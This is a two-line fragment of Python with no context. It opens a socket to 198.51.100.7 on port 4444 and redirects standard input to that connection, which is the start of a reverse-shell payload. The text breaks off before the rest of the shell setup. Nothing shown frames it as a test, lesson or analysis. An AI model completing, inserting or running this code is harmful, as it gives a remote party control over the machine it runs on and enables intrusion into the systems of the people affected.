s=socket.socket();s.connect(("198.51.100.7",4444))
os.dup2(s.fileno(),0)
